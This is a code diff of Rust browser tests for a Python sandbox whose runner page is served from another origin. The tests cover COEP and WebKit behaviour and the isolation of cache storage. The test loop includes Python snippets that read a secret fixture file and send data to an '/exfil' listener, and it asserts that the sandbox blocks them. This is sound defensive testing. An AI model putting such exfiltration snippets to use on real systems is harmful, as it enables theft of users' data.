@@ -14,7 +14,29 @@ fn runner_host() -> &'static str {
     option_env!("PYCAGE_RUNNER_HOST").unwrap_or("http://localhost:8798")
 }
 
-/// Serves `runnerHtml()` from the other site, as a site would deploy it.
+/// Whether this page is cross-origin isolated (whether or not the engine
+/// then gives it shared memory: WebKitGTK does not).
+fn page_isolated() -> bool {
+    js_sys::Reflect::get(&js_sys::global(), &"crossOriginIsolated".into())
+        .ok()
+        .and_then(|v| v.as_bool())
+        .unwrap_or(false)
+}
+
+/// WebKit (Safari's engine), which refuses the runner's `blob:` worker
+/// under Cross-Origin-Embedder-Policy (README, "Browser support").
+fn webkit() -> bool {
+    let navigator = js_sys::Reflect::get(&js_sys::global(), &"navigator".into()).unwrap();
+    let agent = js_sys::Reflect::get(&navigator, &"userAgent".into())
+        .ok()
+        .and_then(|v| v.as_string())
+        .unwrap_or_default();
+    agent.contains("AppleWebKit") && !agent.contains("Chrome")
+}
+
+/// Serves `runnerHtml()` from the other site, as a site would deploy it:
+/// with COEP for an isolated page (its frames must send it), without for
+/// one that is not (COEP gains it nothing).
 async fn publish_runner() -> String {
     let init = web_sys::RequestInit::new();
     init.set_method("POST");
@@ -28,7 +50,11 @@ async fn publish_runner() -> String {
     .await;
     let response: web_sys::Response = response.expect("the runner host is up").unchecked_into();
     assert!(response.ok());
-    url
+    if page_isolated() {
+        url
+    } else {
+        format!("{}/runner-no-coep.html", runner_host())
+    }
 }
 
 fn frames() -> Vec<web_sys::Element> {
@@ -46,6 +72,23 @@ fn frames() -> Vec<web_sys::Element> {
 #[wasm_bindgen_test]
 async fn a_runner_page_on_another_site_hosts_the_sandbox() {
     let url = publish_runner().await;
+    if webkit() && page_isolated() {
+        // The runner must send COEP to be framed here, and WebKit then
+        // refuses its worker: create fails at once and says so.
+        let started = now();
+        let created = Sandbox::create(SandboxOptions {
+            runner_url: Some(url),
+            standby: Some(false),
+            ..opts()
+        })
+        .await;
+        let Err(Error::Init { message, .. }) = created else {
+            panic!("WebKit, isolated: create should fail: {:?}", created.err());
+        };
+        assert!(message.contains("Cross-Origin-Embedder-Policy"), "{message}");
+        assert!(now() - started < 20_000.0, "took {} ms", now() - started);
+        return;
+    }
     let sb = sandbox(SandboxOptions {
         runner_url: Some(url.clone()),
         standby: Some(false),
@@ -75,11 +118,31 @@ async fn a_runner_page_on_another_site_hosts_the_sandbox() {
         format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{origin}/tests/fixtures/secret.json')\nprint(await r.text())"),
         format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nr = await f.call(js.self, '{url}')\nprint(await r.text())"),
         format!("import js\nf = js.WorkerGlobalScope.prototype.fetch\nawait f.call(js.self, '{}/exfil?d=runner')", listener()),
-        "import js\nc = await js.caches.open('app')".to_string(),
     ] {
         let ex = run(&sb, &code).await;
         assert_eq!(ex.status, Status::Error, "{code}: {ex:?}");
         assert!(!format!("{ex:?}").contains("PYCAGE-SECRET-FILE-7f3a"));
+    }
+    // Storage: Chromium and Firefox refuse it to the opaque origin. WebKit
+    // opens a store of that origin alone, which the next frame, another
+    // opaque origin, does not see.
+    let put = "import js\nc = await js.caches.open('app')\n\
+        await c.put('/x', js.Response.new('RUNNER-CACHE-1f2e'))";
+    let ex = run(&sb, put).await;
+    if !webkit() {
+        assert_eq!(ex.status, Status::Error, "{ex:?}");
+    } else if ex.status == Status::Ok {
+        let next = sandbox(SandboxOptions {
+            runner_url: Some(url.clone()),
+            standby: Some(false),
+            ..opts()
+        })
+        .await;
+        let read = "import js\nc = await js.caches.open('app')\nr = await c.match('/x')\n\
+            print(r and await r.text())";
+        let ex = run(&next, read).await;
+        assert!(!format!("{ex:?}").contains("RUNNER-CACHE"), "{ex:?}");
+        next.dispose();
     }
     sleep(300).await;
     assert!(
